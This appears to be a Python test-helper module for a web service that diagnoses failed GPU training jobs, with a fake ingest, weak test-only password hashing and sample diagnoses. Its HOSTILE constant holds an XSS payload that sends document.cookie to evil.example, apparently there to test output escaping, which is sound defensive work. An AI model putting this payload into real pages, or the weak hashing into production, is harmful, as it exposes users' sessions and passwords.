"""The web ring over a real store, with a few diagnoses in it: what its tests and the page tests share."""

import asyncio
import itertools
import sqlite3
import time
from collections.abc import AsyncIterator, Sequence
from contextlib import AsyncExitStack, asynccontextmanager, closing
from dataclasses import dataclass, field, fields, replace
from functools import cache, cached_property
from pathlib import Path
from typing import Any

import httpx
from argon2 import PasswordHasher
from fastapi import FastAPI
from fastapi.routing import iter_route_contexts
from prometheus_client import CollectorRegistry

from diagnoser.adapters.files import bundled, text
from diagnoser.adapters.passwords import Argon2Passwords
from diagnoser.adapters.sql.store import SqlStore
from diagnoser.adapters.wake_signals import LocalWakeSignal
from diagnoser.app import Shared, WakeSignals, World, compose
from diagnoser.channels.slack import buttons, questions
from diagnoser.channels.slack.access import SlackAccess
from diagnoser.compress import Compressor, pack
from diagnoser.config.alerting import load_routing, load_table
from diagnoser.config.loader import site_node_queries
from diagnoser.config.settings import Settings
from diagnoser.diagnosis.attempt_logs import AttemptLogs
from diagnoser.diagnosis.run_comparison import RunComparison
from diagnoser.hang.report import HangReport
from diagnoser.ingest import Batch, IngestReceipt, RecordDefaults
from diagnoser.ingest.job_access import JobSender
from diagnoser.ingest.mapping import DEFAULT
from diagnoser.ingest.protocols.protocol import BodyFormat
from diagnoser.learning.replay_history import ReplayHistory
from diagnoser.learning.rule_lifecycle import RuleLearningConfig, RuleLifecycle
from diagnoser.learning.rule_registry import RuleRegistry
from diagnoser.learning.workbench import RuleWorkbench
from diagnoser.model import (
    Advice,
    AttemptKey,
    Compression,
    Diagnosis,
    Event,
    EventKind,
    EvidenceLine,
    Job,
    LeftOut,
    Line,
    LineBlock,
    Mode,
    ModelUse,
    Plan,
    PlanState,
    Progress,
    Rejected,
    RootCause,
    Stream,
    Suspect,
    Symptom,
)
from diagnoser.model.access import Token
from diagnoser.model.errors import OutOfScope, Unavailable
from diagnoser.model.ids import id_of
from diagnoser.model.logs import Append, Cursor
from diagnoser.model.queries import News
from diagnoser.model.taxonomy import Action, FailureType, Outcome, category_of
from diagnoser.model.work import DiagnosisRecord, Timing
from diagnoser.notifications.routing import AlertRouting, AlertTable
from diagnoser.observability.metrics import Metrics
from diagnoser.observability.tracing import untraced
from diagnoser.planning.planner import DecisionPlanner
from diagnoser.planning.transitions import PlanCommands
from diagnoser.recovery.node_query import NodeQueryTable
from diagnoser.recovery.policy import Policy, load
from diagnoser.redaction.redact import redact
from diagnoser.retrieval.confirmed_failures import ConfirmedFailures
from diagnoser.web.http.authenticator import Authenticator
from diagnoser.web.http.services import (
    CoreServices,
    HealthChecks,
    IntakeServices,
    LiveServices,
    LogServices,
    PeopleServices,
    ViewerScopes,
    WebConfig,
    WebServices,
)
from diagnoser.web.http.sign_in import PasswordSignIn
from diagnoser.web.server import create
from tests import accuracy_bars, databases
from tests.databases import sqlite_store

NOW = 1_790_000_000.0
HOSTILE = (
    "<script>fetch('//evil.example/'+document.cookie)</script> \x1b[31mred \u202etxt.exe <img src=x onerror=alert(1)>"
)
TIMING = Timing(exit_grace=0.0, fatal_debounce=0.0, fatal_debounce_max=0.0, exit_grace_after_fatal=0.0)

GROUPS = (CoreServices, HealthChecks, IntakeServices, LiveServices, LogServices, PeopleServices, WebConfig)


class WeakPasswords(Argon2Passwords):
    """The real library, with parameters that cost a test nothing, and protect nothing."""

    @cached_property
    def _hasher(self) -> PasswordHasher:
        return PasswordHasher(time_cost=1, memory_cost=64, parallelism=1)


WEAK_PASSWORDS = WeakPasswords()


@dataclass
class FakeIngest:
    """Keeps what it is given; answers with ``receipt`` or raises ``error``."""

    receipt: IngestReceipt = field(default_factory=IngestReceipt)
    error: Exception | None = None
    taken: list[tuple[bytes, str, RecordDefaults, float]] = field(default_factory=list)

    async def parse_body(self, body: bytes, format: BodyFormat, defaults: RecordDefaults, received: float) -> Batch:
        batch = format.parse(body, defaults, received, DEFAULT)
        self.taken.append((body, format.name, defaults, received))
        return batch

    async def accept_batch(
        self, batch: Batch, protocol: str, defaults: RecordDefaults, received: float, sender: JobSender | None = None
    ) -> IngestReceipt:
        if self.error:
            raise self.error
        reasons = (
            batch.of_jobs(await sender.access.refused(sender.caller, {target.job for target in batch.blocks}))
            if sender
            else {}
        )
        if reasons and not batch.drop(reasons):
            raise OutOfScope("all of it")
        return self.receipt


async def store_log(store: SqlStore, key: AttemptKey, *blocks: LineBlock) -> None:
    """Append blocks to the log of an attempt, as a commit of few lines does; each goes on where its stream ended."""
    cursors = (await store.logs.cursors([key]))[key]
    appended: dict[Stream, tuple[int, tuple[tuple[int, int], ...]]] = {}
    numbered = []
    for block in blocks:
        cursor = cursors.get(block.stream, Cursor())
        numbered.append(replace(block, first=cursor.next))
        appended[block.stream] = cursor.version, ((1, cursor.next + block.lines - 1),)
    raw = sum(len(block.data) for block in blocks)
    await store.logs.append([Append(key, pack(numbered), NOW, appended, False, raw)])


class StoredLogs:
    """What a test says stands in the logs."""

    def __init__(
        self, lines: Sequence[Line] = (), points: Sequence[Progress] = (), hang: HangReport | None = None
    ) -> None:
        self.lines, self.points, self.hang = lines, points, hang

    async def node_lines(self, record: DiagnosisRecord) -> Sequence[Line]:
        return self.lines

    async def compare(self, key: AttemptKey, other: AttemptKey) -> RunComparison | None:
        return None

    async def progress(self, key: AttemptKey) -> Sequence[Progress]:
        return self.points

    async def hang_report(self, key: AttemptKey) -> HangReport | None:
        return self.hang


_descriptions: dict[tuple[object, ...], dict[str, Any]] = {}
"""Routes -> the OpenAPI document of an application that has them."""


@dataclass(frozen=True)
class Web:
    """The web package in this process: over a real store, with an ingest that only listens."""

    store: SqlStore
    ingest: FakeIngest
    services: WebServices
    client: httpx.AsyncClient


@asynccontextmanager
async def serving(folder: Path, *, store: SqlStore | None = None, **parts: object) -> AsyncIterator[Web]:
    """``parts`` as ``services`` takes them; store: another one than a new one, which the caller closes."""
    opened = store or await sqlite_store(folder / "web.db")
    ingest = FakeIngest()
    async with AsyncExitStack() as stack:
        if store is None:
            stack.push_async_callback(opened.close)
        made = await services(opened, stack, **{"ingest": ingest} | parts)
        app = create(made)
        _share_description(app)
        transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://diagnoser.test") as client:
            yield Web(opened, ingest, made, client)


def _share_description(app: FastAPI) -> None:
    """Applications of the same routes share their OpenAPI document: drawing it takes a second."""
    routes = tuple((route.path, *sorted(route.methods or ())) for route in iter_route_contexts(app.routes))
    draw = app.openapi

    def described() -> dict[str, Any]:
        if routes not in _descriptions:
            _descriptions[routes] = draw()
        return _descriptions[routes]

    app.openapi = described  # type: ignore[method-assign]


async def services(store: SqlStore, stack: AsyncExitStack, /, **parts: object) -> WebServices:
    """As the service composes them, with cheap passwords, ids that count up, and ``parts``.

    parts: by the name of the field that they take the place of, in whichever group it is; ``clock`` and ``metrics`` of
    the whole service, ``tokens`` of the settings, and ``commands`` of the plans.
    """
    if isinstance(access := parts.pop("slack", None), SlackAccess):
        parts["channel_routes"] = [*buttons.routes(access), *questions.routes(access)]
    commands = parts.pop("commands", None) or plan_commands()
    assert isinstance(commands, PlanCommands)
    clock, metrics = parts.pop("clock", lambda: NOW), parts.pop("metrics", None) or Metrics(CollectorRegistry())
    tokens: Sequence[Token] = parts.pop("tokens", ())  # type: ignore[assignment]
    stopping = parts.pop("stopping", None) or asyncio.Event()
    wakes = WakeSignals(LocalWakeSignal(), LocalWakeSignal())
    world = World(store, None, {}, None, None, wakes, clock, metrics, untraced)  # type: ignore[arg-type]
    made = (await compose(_settings(), _shared(), world, stopping, stack)).web  # type: ignore[arg-type]
    has_provider = parts.get("provider") is not None
    cheap: dict[str, object] = {
        "authenticator": Authenticator(
            store, tokens, world.clock, sessions=made.people.sessions, provider=has_provider
        ),
        "sign_in": PasswordSignIn(store, WEAK_PASSWORDS, world.clock),
        "make_id": commands.planner.make_id,
        "plans": replace(made.plans, commands=commands),
    }
    return replaced(made, cheap | parts)


def replaced(made: WebServices, parts: dict[str, object]) -> WebServices:
    """The services with these parts, each in the group that has a field of its name."""
    used = set[str]()

    def within(group: Any) -> Any:
        names = {field.name for field in fields(group)}
        changed = {name: within(getattr(group, name)) for name in names if isinstance(getattr(group, name), GROUPS)}
        changed = {name: value for name, value in changed.items() if value is not getattr(group, name)}
        changed |= {name: parts[name] for name in names & parts.keys()}
        used.update(names & parts.keys())
        return replace(group, **changed) if changed else group

    scopes = ViewerScopes(made.core.store, lambda store: within(made.scopes.open_scope(store)))
    result: WebServices = within(replace(made, scopes=scopes))
    assert used == parts.keys(), f"no group has {sorted(parts.keys() - used)}"
    return result


@cache
def _settings() -> Settings:
    return Settings(allowed_hosts="*")


@cache
def _shared() -> Shared:
    return Shared(accuracy_bars.load(), _node_queries(), load_routing(_settings()), None)


def workbench(store: SqlStore, metrics: Metrics, registry: RuleRegistry | None = None) -> RuleWorkbench:
    """Over the shipped rules."""
    history = ReplayHistory(store, AttemptLogs(store, Compressor))
    registry = registry or RuleRegistry(accuracy_bars.load(), store.rules, lambda: NOW)
    lifecycle = RuleLifecycle(history, registry, lambda: NOW, RuleLearningConfig(redact), metrics)
    return RuleWorkbench(history, registry, lifecycle, time.monotonic)


def confirmed_failures(store: SqlStore, metrics: Metrics | None = None) -> ConfirmedFailures:
    """What people said, over the bundled policy and logs read as the service reads them."""
    return ConfirmedFailures(
        store.feedback, AttemptLogs(store, Compressor), shipped_policy(), metrics or Metrics(CollectorRegistry())
    )


def plan_commands(**more: object) -> PlanCommands:
    """Commands over the bundled policy; ``more`` takes the place of fields of DecisionPlanner."""
    policy, numbers = shipped_policy(), itertools.count(1)
    fields: dict[str, object] = {
        "policy": policy,
        "make_id": lambda now: id_of(now, next(numbers)),
        "mode": None,
        "webhook": False,
        "alerts": AlertRouting(_alert_table(), ("slack",)),
        "base_url": "",
        "redact": lambda told: told,
    }
    planner = DecisionPlanner(**(fields | more))  # type: ignore[arg-type]
    return PlanCommands(policy, planner, queries=_node_queries())


@cache
def shipped_policy() -> Policy:
    """The bundled one, read once in a process."""
    return load("policy.yaml", text(bundled("rules") / "policy.yaml"))


@cache
def _alert_table() -> AlertTable:
    return load_table(Settings())


@cache
def _node_queries() -> NodeQueryTable:
    return site_node_queries(Settings())


def verdict(kind: FailureType = FailureType.ECC_ERROR, **fields: object) -> Diagnosis:
    values: dict[str, object] = {
        "outcome": Outcome.FAILED,
        "category": category_of(kind),
        "type": kind,
        "confidence": 0.97,
        "decided_by": f"rule:{kind}_seen",
    }
    return Diagnosis(**(values | fields))  # type: ignore[arg-type]


async def save(
    store: SqlStore, job: str, diagnosis: Diagnosis, *, attempt: int = 1, created: float = NOW, plan: bool = False
) -> DiagnosisRecord:
    """Store a diagnosis the way a worker does: the attempt ends, is claimed, and the verdict is saved."""
    key = AttemptKey(job, attempt)
    await store.jobs.add_event(key, Event(EventKind.STARTED, created - 7_500))
    await store.jobs.add_event(key, Event(EventKind.EXIT, created - 20, code=1, reason="NonZeroExitCode"))
    claims = await store.work.claim_attempts(created, TIMING, 60.0, 100)
    claim = next(one for one in claims if one.attempt.key == key)
    made = _plan(key, diagnosis, created) if plan else None
    identity = id_of(created, attempt)
    record = DiagnosisRecord(identity, key, claim.attempt.revision, created, True, diagnosis, made)
    await store.work.save_diagnosis(claim, record, made, [])
    return record


def _plan(key: AttemptKey, diagnosis: Diagnosis, created: float) -> Plan:
    return Plan(
        id=f"plan-{key.job}-{key.number}",
        key=f"{key.job}/{key.number}/{diagnosis.recovery.action}",
        job=key.job,
        attempt=key.number,
        action=diagnosis.recovery.action,
        nodes=tuple(one.node for one in diagnosis.nodes[:1]),
        mode=Mode.OBSERVE,
        state=PlanState.ADVISED,
        reason="the mode of this action is observe",
        created=created,
        expires=created + 3600,
        rollback=diagnosis.rollback,
    )


ECC = verdict(
    root_cause=RootCause(
        18_233,
        "[ 8123.112233] NVRM: Xid (PCI:0000:1b:00): 94, pid=48112, name=python, Contained ECC error",
        rank=12,
        node="hgx-04",
        gpu="0000:1b:00",
    ),
    evidence=(
        EvidenceLine(
            18_233,
            "[ 8123.112233] NVRM: Xid (PCI:0000:1b:00): 94, pid=48112, name=python, Contained ECC error",
            "Xid 94 reports a contained uncorrectable memory error of this GPU",
            rank=12,
        ),
        EvidenceLine(
            18_240,
            "[rank12]: RuntimeError: CUDA error: uncorrectable ECC error encountered",
            "the process that used the GPU got the error",
            rank=12,
        ),
    ),
    symptoms=(
        Symptom(
            18_301,
            "[rank3]:[E ProcessGroupNCCL.cpp:607] [Rank 3] Watchdog caught collective operation timeout",
            FailureType.NCCL_TIMEOUT_ERROR,
        ),
        Symptom(
            18_344,
            "torch.distributed.elastic.multiprocessing.errors.ChildFailedError: ",
            FailureType.CALLED_PROCESS_ERROR,
        ),
    ),
    rejected=(
        Rejected(
            211,
            "UserWarning: The given NumPy array is not writable",
            FailureType.VALUE_ERROR,
            "a warning that healthy runs print as well",
        ),
    ),
    nodes=(
        Suspect("hgx-04", 0.95, "the kernel log of this node names the GPU"),
        Suspect("hgx-11", 0.2, "its rank stopped first in the collective"),
    ),
    recovery=Advice(Action.CORDON_AND_RESUBMIT, "a named node has a hardware fault"),
    mitigation="Cordon the node, reset or replace GPU 0000:1b:00, and resubmit from the last checkpoint.",
    left_out=LeftOut(17_120, "routine progress lines"),
    compression=Compression(21_408, 3_214_992, 412, 61_220),
    ruleset="5d2f9c01ab77",
)

OOM = verdict(
    FailureType.OUT_OF_MEMORY_ERROR,
    confidence=0.93,
    root_cause=RootCause(902, "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.31 GiB.", rank=0),
    evidence=(
        EvidenceLine(902, "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.31 GiB.", "device memory"),
    ),
    recovery=Advice(Action.NOTIFY_USER, "the same batch would fail again"),
    mitigation="Use a smaller micro batch, activation checkpointing, or more tensor parallelism.",
    compression=Compression(955, 88_100, 120, 9_400),
)

UNSURE = verdict(
    FailureType.UNKNOWN,
    confidence=0.35,
    decided_by="llm:qwen3-32b",
    root_cause=RootCause(77, HOSTILE),
    evidence=(EvidenceLine(77, HOSTILE, "the last line before the silence"),),
    nodes=(Suspect("<b>n1</b>", 0.4, "<i>why</i>"),),
    notes=("Rules did not decide.",),
    recovery=Advice(Action.NOTIFY_USER, "the cause is not known"),
    model=ModelUse("qwen3-32b", "diagnose/v1", "ab12", 3, 7_800, 410, 6.2),
)

DONE = verdict(FailureType.COMPLETED, outcome=Outcome.COMPLETED, confidence=0.99, decided_by="heuristic:exit_code")
SCRIPT = verdict(
    FailureType.IMPORT_ERROR,
    decided_by="heuristic:exception_class",
    confidence=0.88,
    root_cause=RootCause(14, "ModuleNotFoundError: No module named 'flash_attn_3'", rank=5, node="hgx-09"),
    recovery=Advice(Action.NOTIFY_USER, "only a change of the script helps"),
)


_filled: list[tuple[dict[str, DiagnosisRecord], sqlite3.Connection]] = []
"""What ``fill`` made first in this process, and the database as it was then: the next ones are its copies."""


async def fill(store: SqlStore) -> dict[str, DiagnosisRecord]:
    """Five jobs, one of them with two attempts."""
    file = store.db._engine.url.database
    if store.db.dialect != "sqlite" or file is None:
        return await _fill(store)
    with closing(sqlite3.connect(file)) as connection:
        if not databases.is_empty(connection):
            return await _fill(store)
        if not _filled:
            _filled.append((await _fill(store), sqlite3.connect(":memory:", check_same_thread=False)))
            connection.backup(_filled[0][1])
        else:
            _filled[0][1].backup(connection)
    return dict(_filled[0][0])


async def _fill(store: SqlStore) -> dict[str, DiagnosisRecord]:
    await store.jobs.register(
        Job(
            "llm-70b-pretrain",
            cluster="east",
            name="pretrain 70B",
            nodes=tuple(f"hgx-{number:02d}" for number in range(1, 17)),
            framework="megatron",
            checkpoint_dir="/checkpoints/llm-70b",
            labels={"team": "pretraining"},
            created=NOW - 90_000,
        )
    )
    return {
        "oom": await save(store, "llm-70b-pretrain", OOM, created=NOW - 86_000),
        "done": await save(store, "sft-8b.seed_3", DONE, created=NOW - 7_200),
        "script": await save(store, "eval-mmlu@v2", SCRIPT, created=NOW - 3_000),
        "unsure": await save(store, "rlhf-13b", UNSURE, created=NOW - 900),
        "ecc": await save(store, "llm-70b-pretrain", ECC, attempt=2, created=NOW - 40, plan=True),
    }


class Looks:
    """The looks for news in a store. away: whether they fail."""

    def __init__(self, store: SqlStore) -> None:
        self._news, store.diagnoses.news = store.diagnoses.news, self.news  # type: ignore[method-assign]
        self.away = False
        self.looked = asyncio.Event()
        self.count = 0

    async def news(self, after: str, limit: int) -> list[News]:
        self.count += 1
        try:
            if self.away:
                raise Unavailable("away")
            return await self._news(after, limit)
        finally:
            self.looked.set()

    async def two(self) -> None:
        """The second begins when what the first has seen counts as seen."""
        for _ in range(2):
            self.looked.clear()
            await self.looked.wait()
